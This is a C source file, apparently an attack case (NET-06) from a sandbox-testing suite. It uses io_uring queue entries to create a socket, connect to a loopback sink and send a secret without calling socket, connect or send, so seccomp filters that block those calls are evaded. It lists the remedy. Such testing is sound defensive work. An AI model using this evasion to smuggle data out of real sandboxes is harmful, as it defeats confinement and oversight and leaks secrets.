// SPDX-License-Identifier: MIT
/*
 * Goal:  bytes reach the attacker's host.
 * Means: io_uring makes the socket, connects it and sends: socket(2), connect(2) and send(2) are
 *        never called, so a filter that denies them denies nothing.
 */
#include "attacks/attack.h"
#include "attacks/filter-evasion/ring.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <string.h>

static enum claim run(const struct brief *b)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons((in_port_t)b->sink),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct ring ring;
	int fd;

	attempting(b);
	if (ring_open(&ring))
		return denied("io_uring_setup");
	fd = ring_do(&ring, (struct io_uring_sqe){ .opcode = IORING_OP_SOCKET,
						   .fd = AF_INET,
						   .off = SOCK_STREAM });
	if (fd < 0)
		return denied("IORING_OP_SOCKET");
	if (ring_do(&ring, (struct io_uring_sqe){ .opcode = IORING_OP_CONNECT,
						  .fd = fd,
						  .addr = (uintptr_t)&to,
						  .off = sizeof(to) }) < 0)
		return denied("IORING_OP_CONNECT");
	if (ring_do(&ring, (struct io_uring_sqe){ .opcode = IORING_OP_SEND,
						  .fd = fd,
						  .addr = (uintptr_t)b->secret,
						  .len = (unsigned)strlen(b->secret) }) < 0)
		return denied("IORING_OP_SEND");
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "bytes reach the attacker's host",
	.means = "io_uring: SOCKET, CONNECT and SEND as entries of a queue, not as system calls",
	.oracle = "sink",
	.needs = NEED_IO_URING,
	.quick = true,
	.id = "NET-06",
	.attack_id = "T1041, T1106, CWE-693",
	.remedy = "seccomp without io_uring_setup(2), or kernel.io_uring_disabled",
	.refs = (const char *const[]){ "io_uring(7)", "io_uring_enter(2)", NULL },
	.run = run,
};
